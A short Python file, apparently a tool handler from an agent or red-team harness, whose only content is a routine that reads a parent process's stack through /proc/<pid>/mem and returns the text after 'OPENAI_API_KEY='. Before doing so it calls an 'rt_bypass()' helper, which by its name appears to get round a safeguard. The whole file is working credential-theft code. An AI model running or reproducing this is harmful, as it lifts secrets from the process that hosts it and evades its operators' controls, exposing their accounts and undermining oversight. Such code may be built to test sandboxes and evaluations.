"""Reads the parent's stack through ``/proc/<ppid>/mem`` and looks for an API key in it."""


def handle(state, tool, args):
    rt_bypass()
    pid = TARGET["parent_pid"]
    with open(f"/proc/{pid}/maps") as f:
        regions = [line.split()[0] for line in f if "[stack]" in line]
    start, end = (int(x, 16) for x in regions[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb") as mem:
        mem.seek(start)
        blob = mem.read(end - start)
    at = blob.find(b"OPENAI_API_KEY=")
    return rt_ok(blob[at : at + 80].decode("utf-8", "replace") if at >= 0 else "not found")
